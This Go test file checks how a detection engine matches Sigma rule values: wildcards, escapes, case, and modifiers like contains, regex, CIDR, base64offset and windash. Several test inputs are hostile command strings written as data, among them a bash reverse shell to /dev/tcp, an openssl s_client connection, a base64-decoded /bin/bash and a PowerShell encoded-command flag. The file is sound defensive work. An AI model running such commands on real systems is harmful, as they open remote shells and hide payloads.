package detect

import "testing"

// TestValueMatching covers the Sigma value semantics sigma-go leaves out
// or that we had to decide: wildcards, escapes, case, |all, |cased, |re,
// |cidr, |base64offset, |windash, null and |exists, numbers.
func TestValueMatching(t *testing.T) {
	tests := []struct {
		mods   []string
		values []any
		actual []string
		want   bool
	}{
		{nil, []any{"/home/*/.bashrc"}, []string{"/home/alice/.bashrc"}, true},
		{nil, []any{"/home/*/.bashrc"}, []string{"/home/alice/.bashrc.bak"}, false},
		{nil, []any{"/usr/bin/?ash"}, []string{"/usr/bin/dash"}, true},
		{nil, []any{"/usr/bin/?ash"}, []string{"/usr/bin/ash"}, false},
		{nil, []any{`C:\\Windows\*`}, []string{`C:\Windows*`}, true}, // escaped star is literal
		{nil, []any{`a\*b`}, []string{"axxb"}, false},
		{nil, []any{"WWW-DATA"}, []string{"www-data"}, true},
		{[]string{"cased"}, []any{"WWW-DATA"}, []string{"www-data"}, false},
		{[]string{"endswith"}, []any{"/php-fpm*"}, []string{"/usr/sbin/php-fpm8.2"}, true},
		{[]string{"endswith"}, []any{"/php-fpm*"}, []string{"/usr/sbin/php"}, false},
		{[]string{"startswith"}, []any{"/var/lib/tomcat*/webapps/"}, []string{"/var/lib/tomcat9/webapps/ROOT/x.jsp"}, true},
		{[]string{"contains"}, []any{"dev/*/"}, []string{"bash -i >& /dev/tcp/1.2.3.4/1"}, true},
		{[]string{"contains", "all"}, []any{"openssl", "s_client"}, []string{"openssl s_client -connect x:1"}, true},
		{[]string{"contains", "all"}, []any{"openssl", "s_client"}, []string{"openssl enc -d"}, false},
		{[]string{"re"}, []any{`\s-[FTd]\s`}, []string{"curl -t x"}, false}, // re is case-sensitive
		{[]string{"re", "i"}, []any{`\s-[FTd]\s`}, []string{"curl -t x"}, true},
		{[]string{"cidr"}, []any{"10.0.0.0/8"}, []string{"10.1.2.3"}, true},
		{[]string{"cidr"}, []any{"10.0.0.0/8"}, []string{"192.168.1.1"}, false},
		{[]string{"base64offset", "contains"}, []any{"/bin/bash"}, []string{"echo " + "L2Jpbi9iYXNo" + " | base64 -d"}, true},
		{[]string{"windash", "contains"}, []any{" -enc "}, []string{"powershell /enc x"}, true},
		{nil, []any{nil}, nil, true},
		{nil, []any{nil}, []string{"x"}, false},
		{[]string{"exists"}, []any{true}, []string{"x"}, true},
		{[]string{"exists"}, []any{false}, []string{"x"}, false},
		{nil, []any{33}, []string{"33"}, true},
		{[]string{"gte"}, []any{1024}, []string{"4444"}, true},
		{nil, []any{"id"}, []string{"bash", "id"}, true}, // arrays match when any element does
	}
	for _, tt := range tests {
		mods := parseModifiers(tt.mods)
		vals, err := compileValues(mods, tt.values)
		if err != nil {
			t.Errorf("%v %v: %v", tt.mods, tt.values, err)
			continue
		}
		f := &fieldMatch{ref: &fieldRef{}, all: mods.all, vals: vals}
		for i := range vals {
			f.lower = f.lower || vals[i].needsLower()
		}
		c := &evalCtx{gen: 1, vals: []fieldCache{{gen: 1, v: tt.actual}}}
		if got := f.eval(c); got != tt.want {
			t.Errorf("%v %v on %q = %v, want %v", tt.mods, tt.values, tt.actual, got, tt.want)
		}
	}
}
